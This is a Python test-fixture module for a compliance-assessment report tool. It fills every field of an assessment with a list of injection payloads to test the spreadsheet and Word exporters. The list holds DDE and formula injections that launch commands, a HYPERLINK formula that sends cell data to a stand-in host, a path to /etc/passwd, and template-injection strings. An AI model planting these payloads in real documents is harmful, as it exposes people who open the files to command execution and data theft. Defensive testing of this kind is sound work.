"""Payloads against spreadsheets and Word documents, and an assessment that holds every one of them in every field."""

from __future__ import annotations

from dataclasses import replace

import hostile_samples
from hostile_samples import HOSTILE, hostile
from report_samples import sample

from evidence_check.differences import Differences, compare
from evidence_check.model import Assessment, AssessorVerdict, Registry
from evidence_check.report.json import to_json

PAYLOADS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    "{=1+1}",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "|calc",
    'DDE("cmd";"/C calc")',
    "http://evil.example/a",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "internal:'总览 Overview'!A1",
    "#REF!",
    "_x0041__x000D_",
    "x\x00y\x01z\x0b\x0c\x1f\x7f\x85",
    "\ud800 lone \udfff",
    "\ufffe\uffff",
    "tab\tnew\nline\rreturn\r\nboth",
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{%p for x in y %}",
    "{{r 1}} {%tr endfor %} {# comment #}",
    "{_{ 7*7 }_} {_% if %_}",
    "{%- x -%}",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "]]>&amp;<!--",
    "\a\f",
    "A & B <c> 制度 \"q\" 'a'",
    '&L&"Arial"&P of &N',
    "𠀀😀" * 3,
)
LONG = "长" * 40_000
"""Longer than a cell of Excel may be."""

LONG_ASTRAL = "😀" * 20_000
"""Shorter by characters, longer by Excel's count."""


def attacked() -> tuple[Assessment, Registry, Differences]:
    """Return an assessment in which every field from a document or a user holds every payload, with its changes."""
    calm = hostile_samples.HOSTILE
    hostile_samples.HOSTILE = (*HOSTILE, *PAYLOADS)
    try:
        assessment, registry = hostile()
    finally:
        hostile_samples.HOSTILE = calm
    first = assessment.clauses[0]
    bad = "|".join(PAYLOADS)
    judged = {each.id: AssessorVerdict("met", bad, bad, "2026-01-01", "0" * 16) for each in assessment.clauses[:3]}
    who = replace(assessment.enterprise, verdicts=judged)
    now = replace(assessment, enterprise=who)
    earlier = replace(now, clauses=(replace(first, coverage="missing", missing=(bad, "x")), *assessment.clauses[1:]))
    earlier = replace(earlier, documents=earlier.documents[1:])
    return now, registry, compare(to_json(earlier, registry), to_json(now, registry))


def starting_with(payload: str) -> tuple[Assessment, Registry]:
    """Return an assessment whose texts begin with a payload, as a formula would."""
    assessment, registry, _ = attacked()
    first = assessment.clauses[0]
    quote = replace(first.requirements[0].evidence[0], quote=payload, file=payload)
    element = replace(first.requirements[0].elements[0], evidence=(quote,))
    rule = replace(first.requirements[0], elements=(element,), evidence=(quote,))
    line = replace(assessment.documents[0], path=payload, title=payload)
    changed = replace(first, requirements=(rule,), evidence=(quote,), missing=(payload,))
    who = replace(assessment.enterprise, verdicts={first.id: AssessorVerdict("met", payload, payload)})
    return replace(
        assessment, enterprise=who, clauses=(changed, *assessment.clauses[1:]), documents=(line, *assessment.documents)
    ), registry


def one_file_each() -> tuple[Assessment, Registry]:
    """Return an assessment with one file for each payload, named and titled by it."""
    assessment, registry = sample()
    line = assessment.documents[0]
    files = tuple(replace(line, path=payload, title=payload, clauses=()) for payload in PAYLOADS)
    return replace(assessment, documents=(*files, *assessment.documents)), registry
